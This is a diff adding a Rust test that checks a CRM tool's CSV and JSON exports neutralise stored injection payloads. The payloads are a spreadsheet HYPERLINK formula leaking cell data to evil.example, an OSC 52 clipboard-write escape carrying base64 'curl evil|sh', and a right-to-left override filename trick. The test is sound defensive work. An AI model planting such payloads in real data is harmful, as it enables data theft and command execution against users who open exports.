@@ -584,3 +584,68 @@ fn values_that_cannot_be_stored_are_refused_as_invalid() {
     assert_eq!(run.stdout() + &notes.stdout(), "");
     assert_eq!(snapshot(&db), before);
 }
+
+#[test]
+fn a_stored_formula_or_terminal_escape_is_exported_harmless() {
+    let db = TestDb::demo();
+    // A commercial names their client after a formula; a support
+    // collaborator writes escape sequences into their event's notes: an
+    // OSC 52 clipboard write, a C1 CSI and a right-to-left override.
+    let formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Invoice\")";
+    let notes = "Penser au catering\x1b]52;c;Y3VybCBldmlsfHNo\x07\u{9b}31m\u{202E}fdp.exe";
+    db.user("ab123456789")
+        .ok(&format!("set client mkc111 name = {}", quote(formula)));
+    db.user("ae123456789")
+        .ok(&format!("set event hob2023 notes = {}", quote(notes)));
+    assert_eq!(
+        db.value("SELECT name FROM crm.client WHERE id = 'mkc111'"),
+        formula
+    );
+    assert_eq!(
+        db.value("SELECT notes FROM crm.event WHERE id = 'hob2023'"),
+        notes
+    );
+
+    // Somebody else exports them.
+    let reader = db.user("ac123456789");
+    let export = |format: &str, statement: &str| {
+        let run = reader
+            .shell()
+            .args(["--format", format, "-c", statement])
+            .run()
+            .status(0);
+        assert_eq!(run.stderr(), "");
+        let out = run.stdout();
+        assert!(
+            !out.contains(|c: char| (c.is_control() && c != '\n') || c == '\u{202E}'),
+            "{format}: {out:?}"
+        );
+        out
+    };
+    let clients = export("csv", "list clients");
+    let line = clients.lines().find(|l| l.starts_with("mkc111,")).unwrap();
+    assert!(
+        line.starts_with(
+            "mkc111,\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Invoice\"\")\","
+        ),
+        "{line}"
+    );
+    let events = export("csv", "list events");
+    let line = events.lines().find(|l| l.starts_with("hob2023,")).unwrap();
+    assert!(
+        line.contains(
+            ",Penser au catering\\u{1b}]52;c;Y3VybCBldmlsfHNo\\u{7}\\u{9b}31m\\u{202e}fdp.exe"
+        ),
+        "{line}"
+    );
+    // JSON escapes them all and still gives the exact text back.
+    let events = export("json", "list events");
+    let record: serde_json::Value = events
+        .lines()
+        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
+        .find(|r| r["id"] == "hob2023")
+        .unwrap();
+    assert_eq!(record["notes"], notes);
+    let clients = export("json", "list clients");
+    assert!(clients.contains(&format!("\"name\":{}", serde_json::json!(formula))));
+}
